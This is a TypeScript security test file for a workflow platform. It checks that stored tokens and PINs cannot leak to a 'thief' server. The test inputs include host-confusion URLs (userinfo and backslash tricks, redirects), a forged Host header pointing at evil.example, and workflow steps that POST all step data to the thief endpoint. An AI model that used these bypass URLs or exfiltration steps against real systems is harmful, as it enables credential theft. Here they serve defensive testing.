import { once } from "node:events";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { type Api, newWorkflow, newWorkspace, register, runToEnd } from "../support/api.ts";
import { definition, node } from "../support/definition.ts";
import { type Endpoint, startEndpoint } from "../support/endpoint.ts";
import { untilEnd } from "../support/follow.ts";
import { addMembers } from "../support/members.ts";
import { removeServer, startServer } from "../support/server.ts";
import { sharedServer } from "../support/shared.ts";

const TOKEN = "t0ken-to-carry-away";
const PIN = "p1n-to-carry-away";

/** Where the credentials may go, and the editor's own server. */
let home: Endpoint;
let thief: Endpoint;
let owner: Api;
let editor: Api;
let base: string;
let space: string;
let id: string;

beforeAll(async () => {
  const [server, first, second] = await Promise.all([sharedServer(), startEndpoint(), startEndpoint()]);
  [home, thief] = [first, second];
  const made = await newWorkspace(server.url);
  const member = await register(server.url);
  await addMembers(server.dataDir, [{ workspaceId: made.workspaceId, userId: member.userId, role: "editor" }]);
  ({ api: owner, space } = made);
  editor = member;
  base = `/v1/workspaces/${made.workspaceId}`;
  const hosts = [new URL(home.url).host];
  id = (await owner.post(`${base}/credentials`, { name: "Token", type: "bearer", hosts, data: { token: TOKEN } })).body
    .id;
  await owner.post(`${base}/credentials`, { name: "Pins", type: "fields", hosts, data: { pin: PIN } });
});
afterAll(() => Promise.all([home.close(), thief.close()]));

/** A service whose environment names a proxy in every way that programs read. */
async function startBehindProxy() {
  const proxy = { requests: 0, close: () => closed(listening) };
  const listening = createServer(() => proxy.requests++);
  listening.on("connect", (_, socket) => {
    proxy.requests++;
    socket.destroy();
  });
  listening.listen(0, "127.0.0.1");
  await once(listening, "listening");
  const address = `http://127.0.0.1:${(listening.address() as AddressInfo).port}`;
  const names = ["HTTP_PROXY", "HTTPS_PROXY", "ALL_PROXY", "http_proxy", "https_proxy", "all_proxy"];
  const env = { ...Object.fromEntries(names.map(name => [name, address])), NODE_USE_ENV_PROXY: "1", NO_PROXY: "" };
  return [proxy, await startServer({ env })] as const;
}

async function closed(server: Server) {
  server.closeAllConnections();
  server.close();
  await once(server, "close");
}

/** Nothing that the thief got holds a secret, in any spelling. */
function expectNothing(...shown: unknown[]): void {
  const got = JSON.stringify([thief.received("/"), thief.received("/x"), ...shown]);
  for (const secret of [TOKEN, PIN])
    for (const text of [secret, btoa(secret), btoa(`x${secret}`).slice(4, -4), [...secret].reverse().join("")])
      expect(got).not.toContain(text);
}
const http = (url: string, more: object = {}) => node("call", "http", { url, credential: id, ...more });
const run = (...nodes: object[]) => runToEnd(editor, space, definition(nodes));
const thiefHost = () => new URL(thief.url).host;
const homeHost = () => new URL(home.url).host;

test.each<[string, () => string, string]>([
  ["another port", () => `${thief.url}/x`, "credential_host_not_allowed"],
  [
    "another name of the same address",
    () => `http://localhost:${new URL(home.url).port}/x`,
    "credential_host_not_allowed",
  ],
  [
    "a user name that looks like the host",
    () => `http://${homeHost()}@${thiefHost()}/x`,
    "credential_host_not_allowed",
  ],
  [
    "a backslash that looks like a path",
    () => `http://${thiefHost()}\\@${homeHost()}/x`,
    "credential_host_not_allowed",
  ],
  ["a redirect", () => `${home.url}/redirect/${encodeURIComponent(`${thief.url}/x`)}`, "credential_host_not_allowed"],
  [
    "a redirect with the body",
    () => `${home.url}/redirect307/${encodeURIComponent(`${thief.url}/x`)}`,
    "credential_host_not_allowed",
  ],
  ["another scheme", () => `ftp://${homeHost()}/x`, "outbound_refused"],
])("not by %s", async (_, url, code) => {
  const { status, error } = await run(http(url(), { method: "POST", body: { pin: "{{ secrets.Pins.pin }}" } }));
  expect({ status, code: error.code }).toEqual({ status: "failed", code });
  expectNothing(error);
});

test.each<[string, object]>([
  ["a Host header", { headers: { Host: "evil.example" } }],
  ["a header for proxies", { headers: { "Proxy-Authorization": "x" } }],
])("not by %s, which no step may set", async (_, more) => {
  const { error } = await run(http(`${home.url}/x`, more));
  expect(error.code).toBe("outbound_refused");
});

test("not by variables for proxies: the guard connects by itself", async () => {
  const [proxy, server] = await startBehindProxy();
  try {
    const own = await newWorkspace(server.url);
    const data = { name: "Token", type: "bearer", hosts: [homeHost()], data: { token: TOKEN } };
    const made = await own.api.post(`/v1/workspaces/${own.workspaceId}/credentials`, data);
    const url = `${home.url}/proxied`;
    const call = definition([node("call", "http", { url, credential: (made.body as { id: string }).id })]);
    await runToEnd(own.api, own.space, call);
    expect(home.received("/proxied")).toMatchObject([{ headers: { authorization: `Bearer ${TOKEN}` } }]);
    expect(proxy.requests).toBe(0);
  } finally {
    await removeServer(server);
    await proxy.close();
  }
});

test("not by a step after it: expressions, code, an agent's prompt or a log see what is masked", async () => {
  const steps = [
    http(`${home.url}/echo`, { headers: { "x-pin": "{{ secrets.Pins.pin }}" } }),
    node("code", "code", {
      code: "return JSON.stringify([input, steps, typeof secrets, typeof process, typeof fetch]);",
    }),
    node("send", "http", { url: `${thief.url}/x`, method: "POST", body: { all: "{{ steps }}", scope: "{{ $$ }}" } }),
  ];
  const ended = await runToEnd(editor, space, definition(steps, "call > code", "code > send"));
  expect(ended.status).toBe("completed");
  expect(thief.received("/x").length).toBeGreaterThan(0);
  expectNothing(ended);
});

test("not by an error workflow, which gets the error without the secret", async () => {
  const handler = await newWorkflow(
    editor,
    space,
    definition([node("send", "http", { url: `${thief.url}/`, method: "POST", body: "{{ $$ }}" })]),
  );
  const failing = { ...definition([http(`${home.url}/status/418`)]), settings: { errorWorkflowId: handler } };
  const { id: failed } = await runToEnd(editor, space, failing);
  const started = async () => {
    for (;;) {
      const { body } = await editor.get(`${space}/executions?workflowId=${handler}`);
      if (body.length > 0) return body[0].id as string;
      await new Promise(later => setImmediate(later));
    }
  };
  await untilEnd(editor, `${space}/executions/${await started()}`);
  expect(thief.received("/")).toHaveLength(1);
  expectNothing(failed);
});

test("not by a subworkflow in a space that may not use it", async () => {
  const { body: second } = await owner.post(`${base}/spaces`, { name: "Second" });
  const hosts = [new URL(home.url).host];
  const given = {
    name: "Here only",
    type: "bearer",
    hosts,
    spaceIds: [space.split("/").at(-1)],
    data: { token: TOKEN },
  };
  const { body: own } = await owner.post(`${base}/credentials`, given);
  const there = `${base}/spaces/${second.id}`;
  const child = await newWorkflow(
    editor,
    there,
    definition([node("call", "http", { url: `${home.url}/echo`, credential: own.id })]),
  );
  const { error } = await run(node("child", "subworkflow", { workflowId: child }));
  expect(error).toMatchObject({ origin: { code: "credential_not_found" } });
});

test("not by a change: of the hosts, of the type, of the name, or by a test elsewhere", async () => {
  const path = `${base}/credentials/${id}`;
  for (const change of [{ hosts: [thiefHost()] }, { hosts: ["*"] }, { type: "header" }])
    expect((await editor.patch(path, change)).status).toBe(400);
  const tested = await editor.post(`${path}/test`, { url: `${thief.url}/x` });
  expect(tested.body).toMatchObject({ ok: false });
  const shown = await editor.post(`${path}/test`, { url: `${home.url}/echo` });
  expect(shown.body).toMatchObject({ ok: true });
  expectNothing(tested.body, shown.body, (await editor.get(path)).body);
});
